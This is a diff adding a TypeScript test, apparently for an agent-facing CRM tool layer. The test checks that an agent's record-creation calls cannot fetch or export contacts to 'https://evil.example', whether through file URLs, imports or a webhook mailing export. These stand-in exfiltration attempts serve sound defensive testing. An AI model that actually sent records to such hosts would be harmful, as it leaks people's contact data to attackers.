@@ -302,6 +302,21 @@ describe("a tool", () => {
     assert.equal((await acme.get("/automation/")).data.length, 2);
   });
 
+  test("fetches no address, and carries no contacts to one", async () => {
+    const acme = await organization();
+    const agent = await agentOf(acme, { scope: "write_destructive" });
+    const create = async (object_type: string, data: object) =>
+      (await agent.call("create_record", { object_type, data })).structuredContent["field-errors"];
+
+    const file = await create("file", { lead_id: (await acme.lead()).id, content_url: "https://evil.example/?contacts" });
+    const table = await create("import", { content_url: "https://evil.example/?contacts" });
+    const exported = await create("mailing_export", { platform: "webhook", config: { url: "https://evil.example/" } });
+
+    assert.match(file.content_url, /not fetched for tools/);
+    assert.match(table.content_url, /not fetched for tools/);
+    assert.match(exported.object_type, /mailing_export cannot be created/);
+  });
+
   test("shows no link that opens something without a key, neither in a record nor in its events", async () => {
     const acme = await organization();
     const { id: lead_id } = await acme.lead();
